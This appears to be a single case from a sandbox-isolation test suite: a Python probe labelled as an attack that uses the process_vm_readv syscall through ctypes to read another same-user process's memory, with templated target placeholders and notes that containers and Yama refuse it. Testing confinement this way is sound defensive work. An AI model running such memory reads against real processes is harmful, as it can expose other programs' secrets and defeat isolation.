# attack: reads the memory of a process of the same user with process_vm_readv
# class: processes
# success: said
# refused: in containers, and by Yama
# control: unconfined
import ctypes, os
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
def f(x, note):
    number = {"x86_64": 310, "aarch64": 270}[os.uname().machine]
    here = ctypes.create_string_buffer(16)
    local, remote = Span(ctypes.addressof(here), 16), Span(int("@address@"), 16)
    libc = ctypes.CDLL(None, use_errno=True)
    got = libc.syscall(number, int("@victim@"), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return "@said@" if got == 16 else ctypes.get_errno()
